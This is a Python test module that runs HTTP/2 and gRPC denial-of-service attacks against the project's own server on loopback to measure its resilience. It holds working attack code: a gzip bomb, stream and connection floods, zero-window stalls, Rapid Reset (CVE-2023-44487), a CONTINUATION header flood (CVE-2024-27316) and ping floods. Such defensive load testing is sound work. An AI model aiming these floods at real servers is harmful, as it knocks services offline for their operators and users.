"""Attacks on the edge, each as a process of its own: `python -m tests.worlds.attacks NAME PORT SECONDS`.

It prints one line of JSON: how many calls it began, and how those ended that did end. None has a token. The server is
one of ours on loopback.

What goes on is paced: a thousand calls a second of a kind that hurt, not as many as the cores can make, since then all
that is measured is that they have no time left.
"""

from __future__ import annotations

import asyncio
import gzip
import json
import os
import resource
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Mapping, Sequence
from contextlib import suppress
from typing import Final

from hyperframe.frame import RstStreamFrame
from marketplace.catalog.v1 import catalog_service_pb2

from tests.worlds.raw_http2 import CONTINUATION, HEADERS, PREFACE, Connection, block, frame, message

LIST: Final = "/marketplace.catalog.v1.CatalogService/ListProducts"
LIST_CALL: Final = block(LIST)
PAGE: Final = catalog_service_pb2.ListProductsRequest(page_size=100).SerializeToString()
STREAMS: Final = 255
PACE: Final = 1_000.0
"""Calls a second."""


class Attack:
    """What an attack did: `begun` calls, and the ends of those that ended, as `grpc-status/reason`."""

    def __init__(self, port: int, seconds: float) -> None:
        self.port = port
        self.until = time.monotonic() + seconds
        self.begun = 0
        self.ends: Counter[str] = Counter()
        self.connections: list[Connection] = []
        self._paced = time.monotonic()

    @property
    def going(self) -> bool:
        """Whether its time is not over."""
        return time.monotonic() < self.until

    async def pace(self, calls: int) -> None:
        """Wait until so many more calls are due."""
        self.begun += calls
        self._paced = max(self._paced + calls / PACE, time.monotonic() - 1.0)
        await asyncio.sleep(max(0.0, self._paced - time.monotonic()))

    async def open(self, number: int, *, window: int = 65_535) -> list[Connection]:
        """So many more connections."""
        opened = []
        for _ in range(number):
            with suppress(OSError):
                opened.append(await Connection.open(self.port, window=window))
        self.connections += opened
        return opened

    async def rest(self) -> None:
        """Do nothing more until the time is over."""
        await asyncio.sleep(max(0.0, self.until - time.monotonic()))

    async def collect(self, connection: Connection, calls: list[int], seconds: float) -> None:
        """Count how these calls ended; those that did not within the time, or the attack's own, count as open."""
        with suppress(TimeoutError):
            async with asyncio.timeout(min(seconds, max(1.0, self.until - time.monotonic()))):
                for call in calls:
                    await connection.streams[call].ended.wait()
        for call in calls:
            stream = connection.streams.pop(call)
            known = stream.status or (f"RST {stream.reset}" if stream.reset is not None else "")
            lost = "LOST" if connection.closed.is_set() else "OPEN"
            retry = "+retry" if stream.retry_seconds > 0 else ""
            self.ends[f"{known or lost}/{stream.reason}{retry}"] += 1


async def gzip_bomb(attack: Attack) -> None:
    """4 KiB that inflate to 4 MiB."""
    bomb = message(gzip.compress(b"\x22" + b"\x80\x80\x80\x02" + b"\0" * 4_194_300, 9), compressed=True)
    headers = block(LIST, [("grpc-encoding", "gzip")])

    async def one(connection: Connection) -> None:
        while attack.going and not connection.closed.is_set():
            await attack.pace(20)
            calls = [connection.begin(headers) for _ in range(20)]
            for call in calls:
                connection.say(call, bomb)
            await attack.collect(connection, calls, 10)

    await asyncio.gather(*(one(connection) for connection in await attack.open(8)))


async def headers_only(attack: Attack) -> None:
    """Calls that never send their message, up to 12,750 that wait at the same time."""

    async def one(connection: Connection) -> None:
        calls: list[int] = []
        while attack.going and len(calls) < STREAMS:
            await attack.pace(15)
            calls += [connection.begin(LIST_CALL) for _ in range(15)]
        await attack.collect(connection, calls, 12)

    await asyncio.gather(*(one(connection) for connection in await attack.open(50)))


async def headers_at_once(attack: Attack) -> None:
    """12,750 such calls in one go: more than two cores begin in a second."""

    async def one(connection: Connection) -> None:
        calls = [connection.begin(LIST_CALL) for _ in range(STREAMS)]
        attack.begun += len(calls)
        await attack.collect(connection, calls, 12)

    await asyncio.gather(*(one(connection) for connection in await attack.open(50)))


async def no_message(attack: Attack) -> None:
    """Calls that end without a message."""

    async def one(connection: Connection) -> None:
        while attack.going and not connection.closed.is_set():
            await attack.pace(20)
            calls = [connection.begin(LIST_CALL, end=True) for _ in range(20)]
            await attack.collect(connection, calls, 10)

    await asyncio.gather(*(one(connection) for connection in await attack.open(8)))


async def window_zero(attack: Attack) -> None:
    """Long answers that nobody reads."""

    async def one(connection: Connection) -> None:
        calls = []
        for _ in range(STREAMS):
            calls.append(connection.call(LIST_CALL, PAGE))
            await asyncio.sleep(0.002)
        attack.begun += len(calls)
        await attack.rest()
        await attack.collect(connection, calls, 0.01)

    await asyncio.gather(*(one(connection) for connection in await attack.open(20, window=0)))


async def at_once(attack: Attack, connections: int = 80, each: int = 100) -> None:
    """8,000 whole calls in one go."""
    opened = await attack.open(connections)
    calls = [(connection, [connection.call(LIST_CALL, PAGE) for _ in range(each)]) for connection in opened]
    attack.begun += connections * each
    attack.until += 30  # until all have ended
    await asyncio.gather(*(attack.collect(connection, begun, 30) for connection, begun in calls))
    attack.until = time.monotonic()


async def bursts(attack: Attack) -> None:
    """50 connections with 255 calls each, all at once, every few seconds."""
    opened = await attack.open(50)
    while attack.going:
        calls = [(connection, [connection.call(LIST_CALL, PAGE) for _ in range(STREAMS)]) for connection in opened]
        attack.begun += len(opened) * STREAMS
        await asyncio.gather(*(attack.collect(connection, begun, 30) for connection, begun in calls))
        await asyncio.sleep(4)


async def idle(attack: Attack) -> None:
    """1,500 connections that say nothing more after their preface."""
    await attack.open(1_500)
    await attack.rest()


async def silent(attack: Attack) -> None:
    """1,500 sockets that say nothing at all."""
    writers = []
    for _ in range(1_500):
        with suppress(OSError):
            _, writer = await asyncio.open_connection("127.0.0.1", attack.port)
            writers.append(writer)
    await attack.rest()
    for writer in writers:
        writer.close()


async def rapid_reset(attack: Attack) -> None:
    """Calls that are reset as soon as they are begun (CVE-2023-44487)."""

    async def one(connection: Connection) -> None:
        while attack.going and not connection.closed.is_set():
            await attack.pace(50)
            for _ in range(50):
                number = connection.begin(LIST_CALL)
                connection.write(RstStreamFrame(number, error_code=8).serialize())
                del connection.streams[number]
            with suppress(ConnectionError):
                await connection.drain()

    await asyncio.gather(*(one(connection) for connection in await attack.open(4)))


async def continuation(attack: Attack) -> None:
    """Headers that never end (CVE-2024-27316)."""
    part = frame(CONTINUATION, 0, 1, block("/", [("x-filler", "x" * 4_000)])[-4_000:])

    async def one() -> None:
        while attack.going:
            await asyncio.sleep(0.08)  # up to 100 connections a second, with 800 KB each
            with suppress(OSError):
                _, writer = await asyncio.open_connection("127.0.0.1", attack.port)
                attack.begun += 1
                writer.write(PREFACE + frame(4, 0, 0, b"") + frame(HEADERS, 0, 1, LIST_CALL))
                for _ in range(200):
                    writer.write(part)
                    await writer.drain()
                writer.close()

    await asyncio.gather(*(one() for _ in range(8)))


async def pings(attack: Attack) -> None:
    """Pings as fast as they are taken."""

    async def one(connection: Connection) -> None:
        while attack.going and not connection.closed.is_set():
            for _ in range(100):
                connection.ping()
            with suppress(ConnectionError):
                await connection.drain()
            await asyncio.sleep(0.001)

    await asyncio.gather(*(one(connection) for connection in await attack.open(8)))


async def big_metadata(attack: Attack) -> None:
    """Headers beyond what the server takes."""
    headers = block(LIST, [(f"x-filler-{number}", "x" * 3_000) for number in range(7)])

    async def one(connection: Connection) -> None:
        while attack.going and not connection.closed.is_set():
            await attack.pace(20)
            calls = [connection.call(headers, b"") for _ in range(20)]
            await attack.collect(connection, calls, 10)

    await asyncio.gather(*(one(connection) for connection in await attack.open(8)))


ATTACKS: Final[dict[str, Callable[[Attack], Awaitable[None]]]] = {
    each.__name__: each
    for each in (
        gzip_bomb,
        headers_only,
        headers_at_once,
        no_message,
        window_zero,
        at_once,
        bursts,
        idle,
        silent,
        rapid_reset,
        continuation,
        pings,
        big_metadata,
    )
}


async def _run(kinds: Sequence[Callable[[Attack], Awaitable[None]]], port: int, seconds: float) -> None:
    attacks = [Attack(port, seconds) for _ in kinds]
    await asyncio.gather(*(kind(attack) for kind, attack in zip(kinds, attacks, strict=True)))
    report = {
        "begun": sum(attack.begun for attack in attacks),
        "ends": sum((attack.ends for attack in attacks), Counter()),
        "connections": sum(len(attack.connections) for attack in attacks),
    }
    await asyncio.gather(*(attack.rest() for attack in attacks))
    print(json.dumps(report), flush=True)  # noqa: T201
    for attack in attacks:
        for connection in attack.connections:
            await connection.close()


def main(attacks: Mapping[str, Callable[[Attack], Awaitable[None]]]) -> None:
    """One of them, as the command line says, or several at once: NAME,NAME."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(16_384, hard) if hard > 0 else 16_384, hard))
    os.nice(5)
    kinds = [attacks[name] for name in sys.argv[1].split(",")]
    asyncio.run(_run(kinds, int(sys.argv[2]), float(sys.argv[3])))


if __name__ == "__main__":
    main(ATTACKS)
